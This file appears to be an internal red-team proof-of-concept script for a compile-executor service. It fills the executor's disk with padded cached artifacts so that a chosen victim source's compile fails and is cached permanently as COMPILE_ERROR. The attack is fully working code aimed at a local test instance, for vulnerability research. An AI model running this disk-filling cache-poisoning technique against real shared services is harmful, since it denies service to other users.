#!/usr/bin/env python3
"""Red team round 27: an environmental compile failure is cached as the source's COMPILE_ERROR.

Any executor client fills the disk of the executor's data dir with its own cached artifacts
(up to max_artifact_bytes 512 MiB each, cache_max_mb 2048 in all by default), then submits a
victim source (one it expects others to send: a search-agent template, a docs example, a
likely LLM answer). The compiler fails with "No space left on device" (exit 1, no signal),
Compiler::RunCompiler marks a nonzero exit cacheable ("the same source fails the same way"),
the scratch directory is removed first, so the small failure entry fits and is stored. Once
space is back, every later request for that source and flags is answered COMPILE_ERROR from
the cache (cache_hit true), also after an executor restart.

Needs root (mounts a small tmpfs as the data dir so the real disk is never filled).
  /tmp/fz/bin/python scripts/fuzz/r27_cache_poison.py [--tmpfs-mb 160] [--pad-mb 24]
"""
import argparse
import glob
import os
import socket
import subprocess
import sys
import tempfile
import time

sys.argv, _argv = sys.argv[:1], sys.argv  # fuzz_lib parses nothing at import
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import fuzz_lib as F  # noqa: E402
sys.argv = _argv


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    p = s.getsockname()[1]
    s.close()
    return p


def start_executor(bin_dir, data, port, tok, log):
    p = subprocess.Popen([os.path.join(bin_dir, "pkforge-executor"), "--listen", f"127.0.0.1:{port}",
                          "--data-dir", data, "--token-file", tok, "--gpus", "none", "--nvcc", "none",
                          "--no-measure", "--host-slots", "1", "--compile-workers", "1"],
                         stdout=open(log, "a"), stderr=subprocess.STDOUT)
    ch = F.grpc.insecure_channel(f"127.0.0.1:{port}")
    stub = F.eg.ExecutorStub(ch)
    md = [("authorization", "Bearer " + open(tok).read())]
    for _ in range(200):
        try:
            stub.DescribeDevice(F.e.DescribeDeviceRequest(), metadata=md, timeout=2)
            return p, stub, md
        except F.grpc.RpcError:
            time.sleep(0.1)
    p.kill()
    sys.exit("executor did not come up; see " + log)


def evaluate(stub, md, source):
    req = F.ev_req(source=source)
    last = None
    try:
        for m in stub.Evaluate(req, metadata=md, timeout=300):
            if m.HasField("result"):
                last = m.result
    except F.grpc.RpcError as err:
        print(f"  rpc {err.code().name}: {(err.details() or '')[:160]}", flush=True)
        return None
    return last


def show(label, r):
    if r is None:
        print(f"{label}: no result (see the rpc line above)", flush=True)
        return
    ci = r.compile
    first = (ci.output or r.message).strip().splitlines()
    print(f"{label}: status {r.DESCRIPTOR.fields_by_name['status'].enum_type.values_by_number[r.status].name}"
          f" cache_hit {ci.cache_hit} key {ci.artifact_sha256[:12]} output {first[:2]!r}", flush=True)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--bin", default=os.path.join(F.REPO, "build-ci/bin"))
    ap.add_argument("--tmpfs-mb", type=int, default=160)
    ap.add_argument("--pad-mb", type=int, default=24)
    a = ap.parse_args()
    if os.geteuid() != 0:
        sys.exit("needs root (a tmpfs data dir keeps the real disk out of it)")
    top = tempfile.mkdtemp(prefix="r27-poison-")
    os.chmod(top, 0o711)  # searchable: the executor keeps its sandbox root (compile scratch) in data
    data = os.path.join(top, "data")
    os.makedirs(data)
    subprocess.check_call(["mount", "-t", "tmpfs", "-o", f"size={a.tmpfs_mb}m", "r27tmpfs", data])
    tok = os.path.join(top, "exec.tok")
    with open(tok, "w") as f:
        f.write("r27-exec-token-%d" % os.getpid())
    os.chmod(tok, 0o600)
    log = os.path.join(top, "executor.log")
    port = free_port()
    proc = None
    try:
        proc, stub, md = start_executor(a.bin, os.path.join(data, "exec"), port, tok, log)
        victim = F.HOST_SRC + "\n// the victim: a source some other client will send\n"
        r = None
        # 1. The attacker's own artifacts (each one distinct, cached, pad_mb large).
        for i in range(200):
            st = os.statvfs(data)
            free_kb = st.f_bavail * st.f_frsize >> 10
            if free_kb < 8:
                break  # the disk is full
            pad_kb = max(1, min(a.pad_mb << 10, free_kb // 4))
            pad = (f"\n__attribute__((used)) static const char r27_pad_{i}[{pad_kb} << 10] = {{{i % 250 + 1}}};\n")
            r = evaluate(stub, md, F.HOST_SRC + pad)
            st = os.statvfs(data)
            print(f"filler {i} ({pad_kb} KiB): status {r.status if r else None} free "
                  f"{st.f_bavail * st.f_frsize >> 10} KiB", flush=True)
            if r is not None and r.status == 2:
                break  # even the filler failed to compile: full
        # 2. The victim while the disk is full.
        r = evaluate(stub, md, victim)
        show("victim, disk full", r)
        # 3. Space comes back (the operator deletes the filler artifacts; or LRU, a
        #    clean-up, another tenant's files going away).
        for so in glob.glob(os.path.join(data, "exec", "compile-cache", "*.so")):
            os.chmod(so, 0o644)
            os.unlink(so)
        st = os.statvfs(data)
        print(f"space back: {st.f_bavail * st.f_frsize >> 20} MiB free", flush=True)
        r = evaluate(stub, md, victim)
        show("victim, space back", r)
        # 4. After a restart.
        proc.terminate()
        proc.wait(30)
        proc, stub, md = start_executor(a.bin, os.path.join(data, "exec"), port, tok, log)
        r = evaluate(stub, md, victim)
        show("victim, after restart", r)
        # 5. The same victim source with one more comment byte compiles fine.
        r = evaluate(stub, md, victim + " ")
        show("victim + one byte", r)
    finally:
        if proc is not None and proc.poll() is None:
            proc.terminate()
            try:
                proc.wait(30)
            except subprocess.TimeoutExpired:
                proc.kill()
        subprocess.call(["umount", data])
        print("logs in", top)


if __name__ == "__main__":
    main()
